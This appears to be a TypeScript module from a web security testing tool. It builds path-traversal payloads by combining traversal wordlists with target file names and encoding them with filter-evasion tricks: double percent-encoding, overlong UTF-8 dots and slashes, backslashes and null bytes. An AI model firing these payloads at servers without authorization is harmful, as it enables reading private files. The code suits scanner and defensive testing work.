import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { wordlists } from '../injection/payloads.ts';

/** How a payload is written into a URL. */
export const encodings: Readonly<Record<string, (payload: string) => string>> = {
  raw: (payload) => payload,
  once: percent,
  twice: (payload) => percent(percent(payload)),
  backslash: (payload) => payload.replaceAll('/', '\\'),
  'encoded backslash': (payload) => payload.replaceAll('/', '%5c'),
  overlong: (payload) => payload.replaceAll('.', '%c0%ae').replaceAll('/', '%c0%af'),
  'overlong, three bytes': (payload) => payload.replaceAll('.', '%e0%80%ae').replaceAll('/', '%e0%80%af'),
  'with a null byte': (payload) => `${payload}%00.html`,
};

function percent(text: string): string {
  return text.replace(/[^A-Za-z0-9]/g, (character) =>
    [...Buffer.from(character)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
  );
}

/** Paths of the lists of others, with each of `files` where they say {FILE}; or why they cannot be had. */
export function traversals(
  files: readonly string[],
): { readonly lines: readonly string[] } | { readonly missing: string } {
  const found = wordlists();
  if ('missing' in found) return found;
  const names = [
    'vulns/dirTraversal',
    'vulns/dirTraversal-nix',
    'vulns/dirTraversal-win',
    'Injections/Traversal',
  ];
  const lines = names.flatMap((name) =>
    readFileSync(join(found.folder, `${name}.txt`), 'latin1').split(/\r?\n/),
  );
  const filled = lines.flatMap((line) => files.map((file) => line.replaceAll('{FILE}', file)));
  return { lines: [...new Set(filled)].filter((line) => line !== '') };
}
